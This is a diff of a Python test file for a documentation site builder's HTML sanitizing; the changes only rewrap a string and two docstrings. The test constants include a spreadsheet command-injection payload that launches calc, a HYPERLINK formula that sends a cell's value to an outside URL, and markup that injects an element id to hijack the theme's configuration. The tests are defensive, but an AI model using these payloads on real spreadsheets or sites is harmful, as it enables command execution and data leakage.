@@ -24,7 +24,10 @@ from tests.html.elements import Elements
 from tests.html.elements import parse as parse_page
 
 PROJECT = "turkistan-highway"
-MARKDOWN_NAME = "Turkistan [official site](https://example.org) ![p](https://example.org/p.png) { #__config } *x* `y` #"
+MARKDOWN_NAME = (
+    "Turkistan [official site](https://example.org) ![p](https://example.org/p.png) "
+    "{ #__config } *x* `y` #"
+)
 FORMULA_SUMMARY = '=HYPERLINK("https://example.org/?"&A1,"Details")'
 FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
 NFC_NAME = "파블로다르 합금철 플랜트"
@@ -102,7 +105,8 @@ def test_the_name_reaches_search_as_text(hostile: Paths, lang: str) -> None:
 
 
 def test_an_element_named_like_materials_settings_loses_its_id(hostile: Paths) -> None:
-    """Material reads document.getElementById("__config"): the first such element must be its own script."""
+    """Material reads document.getElementById("__config"):
+    the first such element must be its own script."""
     page = parse(hostile.site_dir / "en" / "about" / "index.html")
     named = [(tag, attrs) for tag, attrs in page.tags if attrs.get("id") == "__config"]
     assert named and named[0][0] == "script"
@@ -114,7 +118,8 @@ def test_an_element_named_like_materials_settings_loses_its_id(hostile: Paths) -
 
 
 def test_every_id_materials_templates_use_is_in_the_reserved_namespace() -> None:
-    """The checker and the sanitizer reserve ids starting with "__": Material's own must all start so."""
+    """The checker and the sanitizer reserve ids starting with "__":
+    Material's own must all start so."""
     import material
 
     from briefing.html.sanitize import ENGINE_ID_PREFIX as SANITIZER_PREFIX
